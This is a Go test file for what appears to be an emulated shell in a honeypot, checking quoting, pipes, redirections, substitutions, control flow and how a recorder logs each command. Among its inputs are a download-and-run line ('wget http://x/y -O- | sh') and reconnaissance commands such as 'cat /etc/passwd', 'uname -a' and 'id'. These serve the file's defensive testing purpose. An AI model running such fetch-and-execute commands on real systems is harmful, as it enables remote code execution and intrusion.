package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestRunGolden pins the interpreter: quoting, lists and exit codes, pipes,
// redirections into the view, substitutions, variables and control flow.
// Each case runs on a fresh root session.
func TestRunGolden(t *testing.T) {
	for _, tc := range []struct {
		name, line, want string
	}{
		{"single quotes keep everything", `echo 'a  $HOME "b"'`, "a  $HOME \"b\"\n"},
		{"double quotes expand", `X=hi; echo "$X  there" "${X}x"`, "hi  there hix\n"},
		{"backslash escapes", `echo a\ b \$HOME "\$X" \\`, "a b $HOME $X \\\n"},
		{"adjacent quoting joins words", `echo 'a'"b"c`, "abc\n"},
		{"empty quotes are an argument", `printf '[%s]' "" x; echo`, "[][x]\n"},
		{"unquoted expansion splits", `X="1  2   3"; printf '<%s>' $X; echo`, "<1><2><3>\n"},
		{"quoted expansion does not", `X="1  2"; printf '<%s>' "$X"; echo`, "<1  2>\n"},
		{"ansi-c quoting", `echo $'a\tb\x41'`, "a\tbA\n"},
		{"list runs in order", `echo a; echo b`, "a\nb\n"},
		{"and-or semantics", `false && echo no || echo yes; true || echo no && echo also`, "yes\nalso\n"},
		{"exit status of last", `false; echo $?; true; echo $?`, "1\n0\n"},
		{"not found status", `nosuchcmd 2>/dev/null; echo $?`, "127\n"},
		{"negation", `! false; echo $?`, "0\n"},
		{"pipe chain", `cat /etc/passwd | grep root | wc -l`, "1\n"},
		{"pipe status is the last", `false | true; echo $?`, "0\n"},
		{"stderr skips the pipe", `ls /nope 2>&1 | wc -l`, "1\n"},
		{"redirect then read back", `echo hello > /tmp/t1; echo world >> /tmp/t1; cat /tmp/t1`, "hello\nworld\n"},
		{"redirect stderr to file", `ls /nope 2> /tmp/err; cat /tmp/err`, "ls: cannot access '/nope': No such file or directory\n"},
		{"redirect both", `ls /nope /tmp/.X11-unix &> /tmp/both; wc -l < /tmp/both`, "2\n"},
		{"devnull swallows", `echo gone > /dev/null; ls /nope 2>/dev/null; echo $?`, "2\n"},
		{"input redirect", `echo abc > /tmp/in; tr a-z A-Z < /tmp/in`, "ABC\n"},
		{"here-string", `tr a-z A-Z <<< "hello there"`, "HELLO THERE\n"},
		{"here-document", "cat <<EOF\nline $((1+1))\nEOF", "line 2\n"},
		{"quoted here-document is literal", "cat <<'EOF'\n$HOME\nEOF", "$HOME\n"},
		{"command substitution", `echo "[$(echo a; echo b)]"`, "[a\nb]\n"},
		{"backticks", "echo `echo x`y", "xy\n"},
		{"nested substitution", `echo $(echo $(echo deep))`, "deep\n"},
		{"substitution does not leak state", `X=1; Y=$(X=2; echo $X); echo $X $Y`, "1 2\n"},
		{"sh -c runs in a child", `sh -c 'echo $0 $1; exit 3' me you; echo $?`, "me you\n3\n"},
		{"bash -c with quoting", `bash -c "echo \"a b\""`, "a b\n"},
		{"special variables", `echo $HOME $USER $PWD $HOSTNAME`, "/root root /root SRV-DELTA-42\n"},
		{"path variable", `echo $PATH`, "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin\n"},
		{"shell variable", `echo $SHELL`, "/bin/bash\n"},
		{"export and env", `export FOO=bar; env | grep ^FOO | cat`, "FOO=bar\n"},
		{"unset", `X=1; unset X; echo "[$X]"`, "[]\n"},
		{"prefix assignment is temporary", `FOO=1 env | grep -c ^FOO=; echo "[$FOO]"`, "1\n[]\n"},
		{"parameter defaults", `echo ${NOPE:-dflt} ${#HOME} ${HOME#/} ${HOME/root/x}`, "dflt 5 root /x\n"},
		{"arithmetic", `echo $((2**10 + 7 % 4)) $((0x10)) $(( (1+2)*3 ))`, "1027 16 9\n"},
		{"let and ((", `i=1; ((i+=4)); let i=i*2; echo $i`, "10\n"},
		{"for over words", `for i in a b c; do echo -n $i; done; echo`, "abc\n"},
		{"c-style for", `for ((i=0;i<3;i++)); do echo -n $i; done; echo`, "012\n"},
		{"while with counter", `n=0; while [ $n -lt 3 ]; do n=$((n+1)); done; echo $n`, "3\n"},
		{"infinite loop is capped", `n=0; while true; do n=$((n+1)); done; echo $n`, "1000\n"},
		{"break and continue", `for i in 1 2 3 4; do [ $i = 2 ] && continue; [ $i = 4 ] && break; echo $i; done`, "1\n3\n"},
		{"if elif else", `if false; then echo a; elif true; then echo b; else echo c; fi`, "b\n"},
		{"case", `case foo.tar.gz in *.zip) echo zip;; *.tar.*) echo tar;; esac`, "tar\n"},
		{"function", `greet() { echo "hi $1"; return 3; }; greet bob; echo $?`, "hi bob\n3\n"},
		{"test and [[", `[ -d /tmp ] && [[ abc == a* ]] && [[ 5 -gt 3 ]] && echo ok`, "ok\n"},
		{"regex match", `[[ "x123" =~ ^x[0-9]+$ ]] && echo m`, "m\n"},
		{"read from here-string", `read a b <<< "one two three"; echo "$b|$a"`, "two three|one\n"},
		{"while read loop", "printf 'x\\ny\\n' > /tmp/l; while read l; do echo \"<$l>\"; done < /tmp/l", "<x>\n<y>\n"},
		{"glob in a directory", `mkdir /tmp/g; touch /tmp/g/a.sh /tmp/g/b.sh /tmp/g/c.txt; echo /tmp/g/*.sh`, "/tmp/g/a.sh /tmp/g/b.sh\n"},
		{"unmatched glob stays", `echo /tmp/none*`, "/tmp/none*\n"},
		{"tilde", `echo ~ ~/x ~ubuntu`, "/root /root/x /home/ubuntu\n"},
		{"brace expansion", `echo f{a,b}.{1..3}`, "fa.1 fa.2 fa.3 fb.1 fb.2 fb.3\n"},
		{"cd and pwd", `cd /var/log && pwd; cd - >/dev/null; pwd`, "/var/log\n/root\n"},
		{"comments", `echo a # echo b`, "a\n"},
		{"background runs now", `echo bg & echo fg`, ""},
		{"alias", `alias hi='echo hello'; hi there`, "hello there\n"},
		{"printf formats", `printf '%s=%05d|%-4s|%x\n' a 42 b 255`, "a=00042|b   |ff\n"},
		{"echo -e and -n", `echo -e 'a\nb'; echo -n c; echo d`, "a\nb\ncd\n"},
		{"syntax error", `echo (`, "bash: syntax error near unexpected token `newline'\n"},
		{"unterminated quote", `echo 'abc`, "bash: unexpected EOF while looking for matching `''\n"},
		{"bad substitution", `echo ${x!y}`, "bash: ${x!y}: bad substitution\n"},
		{"command -v and type", `command -v wget; type cd`, "/usr/bin/wget\ncd is a shell builtin\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := newSession(t, "root")
			got := run(t, s, tc.line)
			if tc.name == "background runs now" {
				if !strings.HasPrefix(got, "[1] ") || !strings.HasSuffix(got, "bg\nfg\n") {
					t.Fatalf("got %q", got)
				}
				return
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Run(%q) mismatch (-want +got):\n%s", tc.line, diff)
			}
		})
	}
}

// TestParseCommandTexts pins the parser's view of simple commands: their
// source text, as the Recorder receives it.
func TestParseCommandTexts(t *testing.T) {
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"true; true && false || echo d", []string{"true", "true", "false", "echo d"}},
		{"a; b && c || d", []string{"a", "b", "d"}},
		{"  ls   -la  /tmp ;pwd", []string{"ls   -la  /tmp", "pwd"}},
		{"cat /etc/passwd | grep root | wc -l", []string{"cat /etc/passwd", "grep root", "wc -l"}},
		{"X=1 Y=2 env > /tmp/o 2>&1", []string{"X=1 Y=2 env > /tmp/o 2>&1"}},
		{"echo $(uname -a) `id`", []string{"uname -a", "id", "echo $(uname -a) `id`"}},
		{"if true; then echo 'a;b'; fi", []string{"true", "echo 'a;b'"}},
		{"for i in 1 2; do echo $i; done", []string{"echo $i", "echo $i"}},
		{"echo a # comment; b", []string{"echo a"}},
		{"wget http://x/y -O- | sh", []string{"wget http://x/y -O-", "sh"}},
	} {
		t.Run(tc.line, func(t *testing.T) {
			s, rec := newSession(t, "root")
			run(t, s, tc.line)
			var got []string
			for _, c := range rec.cmds {
				got = append(got, c.Text)
				if c.Line != tc.line {
					t.Errorf("Line = %q, want %q", c.Line, tc.line)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("command texts mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{"echo )", "syntax error near unexpected token `)'"},
		{"if true; then", "syntax error: unexpected end of file"},
		{"for 1x in a; do :; done", "`1x': not a valid identifier"},
		{"echo \"abc", "unexpected EOF while looking for matching `\"'"},
		{"echo $(ls", "unexpected EOF while looking for matching `)'"},
		{"a && ", "syntax error: unexpected end of file"},
		{"| a", "syntax error near unexpected token `|'"},
		{"case x in a) ;; ", "syntax error: unexpected end of file"},
	} {
		_, err := parse(tc.src, 0)
		if err == nil || err.Error() != tc.want {
			t.Errorf("parse(%q) error = %v, want %q", tc.src, err, tc.want)
		}
	}
}
